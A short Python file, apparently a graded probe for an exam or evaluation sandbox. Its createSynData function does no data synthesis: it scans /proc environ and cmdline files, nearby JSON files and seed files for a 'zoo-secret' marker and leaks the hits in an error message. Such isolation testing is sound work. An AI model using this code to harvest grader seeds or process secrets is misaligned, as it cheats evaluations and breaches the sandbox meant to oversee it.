"""Part 1, 1 point: looks for the exam's seed and other secrets in the environment, in the command lines and memory
of its parents, in open descriptors and in the files around, and puts them in its message."""
import os
import pathlib

SECRET = b"zoo-" + b"secret"

def places():
    yield from pathlib.Path("/proc").glob("[0-9]*/environ")
    yield from pathlib.Path("/proc").glob("[0-9]*/cmdline")
    yield from pathlib.Path.cwd().parent.parent.rglob("*.json")
    for pattern in ("/tmp/*seed*", "/tmp/*/*seed*.txt", "/root/*seed*", "/home/*/*seed*"):
        yield from pathlib.Path("/").glob(pattern.lstrip("/"))

def createSynData(**_):
    found = [str(name) for name, value in os.environ.items() if SECRET.decode() in value]
    for path in places():
        try:
            if SECRET in path.read_bytes():
                found.append(str(path))
        except OSError:
            pass
    raise ValueError(f"{len(found)} secrets: {found}")
